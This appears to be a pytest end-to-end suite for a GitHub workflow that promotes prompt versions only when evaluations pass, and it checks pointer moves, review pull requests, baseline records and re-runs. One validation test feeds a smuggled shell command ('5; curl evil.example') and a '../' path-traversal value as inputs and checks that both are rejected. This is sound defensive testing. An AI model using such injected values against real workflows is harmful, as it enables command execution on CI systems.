"""What a workflow moves for good, under the real runner: live pointers, records, a run's re-run."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.act.newcomer import (
    DAMAGING,
    HARMLESS,
    NUMBER,
    POLICY,
    Newcomer,
    dispatch_event,
    newcomer,
    push_event,
    verdict,
)
from tests.act.runner import Bench, Run, commit, git
from tests.e2e.shop import version, write

pytestmark = [pytest.mark.slow, pytest.mark.full]

RECORDS = "reports/baselines/p.p.jsonl"


@pytest.fixture
def shop(bench: Bench, tmp_path: Path) -> Iterator[Newcomer]:
    with newcomer(bench, tmp_path / "shop") as shop:
        yield shop
        shop.assert_orderly()


def merge(shop: Newcomer, files: dict[str, str]) -> str:
    """Put files on the default branch, here, at origin and on GitHub."""
    git(shop.folder, "switch", "--quiet", "main")
    write(shop.folder, files)
    head = commit(shop.folder, "Merge")
    git(shop.folder, "update-ref", "refs/remotes/origin/main", "HEAD")
    names = git(shop.folder, "ls-files").splitlines()
    texts = {name: (shop.folder / name).read_text("utf-8") for name in names}
    shop.github.state.git.push("main", texts, commit=head)
    shop.github.state.commits.add(head)
    return head


def promote(shop: Newcomer, **inputs: str) -> Run:
    given = {"prompt": "p", "version": "v2", "percent": "5", "reason": "kinder", **inputs}
    return shop.gate(
        event="workflow_dispatch",
        workflow="evalgate-promote.yml",
        payload=dispatch_event(**given),
    )


def live(shop: Newcomer, ref: str = "main") -> str:
    return shop.github.state.git.text("prompts/p/live.yaml", ref=ref) or ""


def states(shop: Newcomer) -> list[list[str]]:
    return [
        [status.state for status in each.statuses]
        for each in shop.github.state.deployments.values()
    ]


BY_COMMIT = POLICY + "promotion: {by: commit}\n"


def test_a_promotion_that_passes_moves_the_pointer_and_records_the_deployment(
    shop: Newcomer,
) -> None:
    merge(
        shop,
        {"prompts/p/v2.md": version(HARMLESS), ".github/evalgate.yml": BY_COMMIT},
    )
    run = promote(shop)
    assert run.exit_code == 0, run.log
    assert "canary" in live(shop)
    assert "percent: 5" in live(shop)
    assert states(shop) == [["in_progress", "success"]]
    assert run.steps["gate"].outputs["verdict"] == "pass"


def test_a_promotion_by_pull_request_leaves_the_pointer_to_a_reviewer(shop: Newcomer) -> None:
    merge(shop, {"prompts/p/v2.md": version(HARMLESS)})
    run = promote(shop)
    assert run.exit_code == 0, run.log
    assert "canary" not in live(shop)
    (pull,) = [each for each in shop.github.state.pulls.values() if each.number != NUMBER]
    assert pull.head_ref.startswith("evalgate/promote-p-v2-5")
    assert "percent: 5" in live(shop, pull.head_ref)
    assert states(shop) == [["in_progress", "queued"]]


def test_a_promotion_of_a_worse_version_is_blocked(shop: Newcomer) -> None:
    merge(
        shop,
        {"prompts/p/v2.md": version(DAMAGING), ".github/evalgate.yml": BY_COMMIT},
    )
    run = promote(shop)
    assert run.exit_code == 1
    assert "canary" not in live(shop)
    assert states(shop) == [["in_progress", "failure"]]
    assert run.steps["gate"].outputs["verdict"] == "fail"


@pytest.mark.parametrize(
    ("inputs", "said"),
    [
        ({"version": "v3"}, "v3"),
        ({"percent": "5; curl evil.example"}, "percent"),
        ({"percent": "101"}, "percent"),
        ({"prompt": "../p"}, "prompt"),
    ],
)
def test_inputs_that_make_no_sense_cost_nothing(
    shop: Newcomer, inputs: dict[str, str], said: str
) -> None:
    merge(shop, {"prompts/p/v2.md": version(HARMLESS)})
    run = promote(shop, **inputs)
    assert run.exit_code == 1
    assert said in run.log
    assert shop.claude.calls == 0
    assert shop.github.state.deployments == {}


def test_a_push_to_the_default_branch_records_what_is_stable(bench: Bench, tmp_path: Path) -> None:
    policy = POLICY + "baseline: {branch: evalgate-records}\n"
    with newcomer(bench, tmp_path / "shop", policy=policy) as shop:
        head = merge(shop, {"README.md": "A shop.\n"})
        push = {
            "event": "push",
            "workflow": "evalgate-record.yml",
            "payload": push_event(head),
            "variables": shop.variables | {"GITHUB_SHA": head},
        }
        run = shop.gate(**push)
        assert run.exit_code == 0, run.log
        text = shop.github.state.git.text(RECORDS, ref="evalgate-records")
        assert text is not None
        assert len(text.splitlines()) == 60
        calls = shop.claude.calls
        assert calls >= 60
        shop.assert_orderly()


def test_a_re_run_goes_on_with_the_trials_of_the_attempt_before(shop: Newcomer) -> None:
    shop.propose({"prompts/p/v2.md": version(DAMAGING)})
    first = shop.gate()
    shop.upload(first, 50, "evalgate-reports")
    calls = shop.claude.calls
    again = shop.gate(attempt=2)
    assert again.exit_code == first.exit_code == 1, again.log
    assert shop.claude.calls == calls
    assert verdict(again)["prompts"] is not None
    assert len(shop.github.state.bodies(NUMBER)) == 1


def test_a_re_run_without_its_artifact_begins_anew(shop: Newcomer) -> None:
    shop.propose({"prompts/p/v2.md": version(HARMLESS)})
    assert shop.gate(attempt=2).exit_code == 0
    assert shop.claude.calls > 0
